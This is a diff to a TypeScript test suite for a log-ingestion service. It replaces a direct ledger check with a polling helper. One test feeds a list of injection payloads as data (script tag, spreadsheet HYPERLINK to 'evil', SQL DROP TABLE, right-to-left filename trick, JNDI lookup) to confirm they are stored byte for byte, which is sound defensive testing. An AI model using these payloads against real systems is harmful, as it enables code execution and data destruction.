@@ -29,7 +29,9 @@ async function newSource(settings: object = {}): Promise<void> {
 }
 
 const send = (body: string | Buffer, headers: Record<string, string> = {}) => glacis.ingest(`source=${source}`, body, { authorization: token, ...headers });
-const ledger = async () => (await glacis.settled(source)).ledger;
+/** The ledger of the source comes to this: rejections enter it a second late, and lines when they are stored. */
+const settles = (expected: object, of = source) =>
+  expect.poll(async () => (await glacis.logs.ledger.of(of)).ledger, { timeout: 20_000 }).toMatchObject({ waiting: 0, ...expected });
 
 async function syslog(host: string, text: string | Buffer): Promise<void> {
   const socket = connect(glacis.ports.plain, host);
@@ -58,7 +60,7 @@ describe('what a token may write', () => {
     source = 'made-at-first-use';
     const answers = await Promise.all(Array.from({ length: 8 }, (_, i) => glacis.ingest(`source=${source}`, `line ${i}`, { authorization: secret })));
     expect(answers.map(({ status }) => status)).toEqual(Array.from({ length: 8 }, () => 200));
-    expect(await ledger()).toMatchObject({ received: 8, stored: 8 });
+    await settles({ received: 8, stored: 8 });
     expect((await glacis.api('GET', `/api/v1/sources/${source}`)).json).toMatchObject({ name: source, retentionDays: 90, state: 'active' });
     for (const own of ['glacis', 'quarantine']) expect((await glacis.ingest(`source=${own}`, 'forged', { authorization: secret })).status).toBe(409);
   });
@@ -71,7 +73,7 @@ describe('what is received is stored, byte for byte, or told', () => {
     expect((await send('same\nsame\n')).json).toEqual({ received: 2, stored: 0, duplicate: 2, rejected: [] });
     expect((await send(gzipSync('same\nsame\n'), { 'content-encoding': 'gzip', 'idempotency-key': 'k1' })).json).toMatchObject({ stored: 2 });
     expect((await send('same\nsame\n', { 'idempotency-key': 'k1' })).json).toMatchObject({ duplicate: 2 });
-    expect(await ledger()).toMatchObject({ received: 8, stored: 4, duplicate: 4, rejected: {} });
+    await settles({ received: 8, stored: 4, duplicate: 4, rejected: {} });
     expect(await glacis.stored(source)).toEqual(['same', 'same', 'same', 'same']);
   });
 
@@ -80,7 +82,7 @@ describe('what is received is stored, byte for byte, or told', () => {
     const noise = glacis.kernel.random(100_000).map((byte) => (byte === 0x0a ? 0x0b : byte));
     const lines = [Buffer.from([0xff, 0xfe, 0x00, 0x41]), Buffer.from('caf\u00e9'), noise.subarray(0, -1)];
     await send(Buffer.concat(lines.flatMap((line) => [line, Buffer.from('\n')])));
-    expect(await ledger()).toMatchObject({ received: 3, stored: 3 });
+    await settles({ received: 3, stored: 3 });
     const rows = await glacis.kernel.events.rows<{ hex: string }>({
       sql: `SELECT hex(raw) AS hex FROM ${EVENTS} WHERE source = {source:String} ORDER BY position`, params: { source },
     });
@@ -91,7 +93,7 @@ describe('what is received is stored, byte for byte, or told', () => {
     await newSource();
     const answer = await send(`before\n${'x'.repeat(10 * MIB)}\nafter\n`);
     expect(answer.json).toEqual({ received: 3, stored: 2, duplicate: 0, rejected: [{ line: 2, reason: 'line_too_long' }] });
-    expect(await ledger()).toMatchObject({ received: 3, stored: 2, rejected: { line_too_long: 1 } });
+    await settles({ received: 3, stored: 2, rejected: { line_too_long: 1 } });
 
     const before = (await glacis.logs.ledger.of('syslog')).ledger.rejected['line_too_long'] ?? 0;
     await syslog('127.0.0.1', Buffer.concat([Buffer.from('<13>before\n'), Buffer.alloc(10 * MIB, 'y'), Buffer.from('\n<13>after\n')]));
@@ -103,7 +105,7 @@ describe('what is received is stored, byte for byte, or told', () => {
     await newSource();
     const deep = `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
     expect((await send(`[${deep}]`, { 'content-type': 'application/json' })).json).toMatchObject({ stored: 1 });
-    expect(await ledger()).toMatchObject({ stored: 1 });
+    await settles({ stored: 1 });
     expect(await glacis.stored(source)).toEqual([deep]);
   });
 
@@ -111,7 +113,7 @@ describe('what is received is stored, byte for byte, or told', () => {
     await newSource();
     const hostile = ['<script>alert(1)</script>', '=HYPERLINK("http://evil")', "'; DROP TABLE events; --", '{name:String}', '\u202egnp.exe', '${jndi:ldap://x}'];
     await send(hostile.join('\n'));
-    await ledger();
+    await settles({ stored: hostile.length });
     expect(await glacis.stored(source)).toEqual(hostile);
   });
 
@@ -119,13 +121,13 @@ describe('what is received is stored, byte for byte, or told', () => {
     await newSource();
     expect((await send('not gzip', { 'content-encoding': 'gzip' })).status).toBe(400);
     expect((await send('x', { 'content-encoding': 'gzip, gzip' })).status).toBe(415);
-    expect(await ledger()).toMatchObject({ received: 2, stored: 0, rejected: { bad_body: 1, unsupported_body: 1 } });
+    await settles({ received: 2, stored: 0, rejected: { bad_body: 1, unsupported_body: 1 } });
   });
 
   test('lines are read as the format says', async () => {
     await newSource({ format: 'sshd', timeZone: 'Europe/Berlin' });
     await send('Nov 23 07:33:47 web1 sshd[812]: Failed password for root from 203.0.113.9 port 51123 ssh2');
-    await ledger();
+    await settles({ stored: 1 });
     const [event] = await glacis.kernel.events.rows<{ user: string; src_ip: string; format: string }>({
       sql: `SELECT user, src_ip, format FROM ${EVENTS} WHERE source = {source:String}`, params: { source },
     });
@@ -146,7 +148,7 @@ describe('who sends syslog', () => {
 
     await newSource({ senders: [{ by: 'network', cidr: outside, transport: 'tcp' }] });
     await syslog(outside ?? '', '<13>now you know\n');
-    expect(await ledger()).toMatchObject({ stored: 1 });
+    await settles({ stored: 1 });
     expect(await glacis.stored(source)).toEqual(['<13>now you know']);
     expect(await glacis.stored('quarantine')).toEqual(['<13>who am I']);
   });
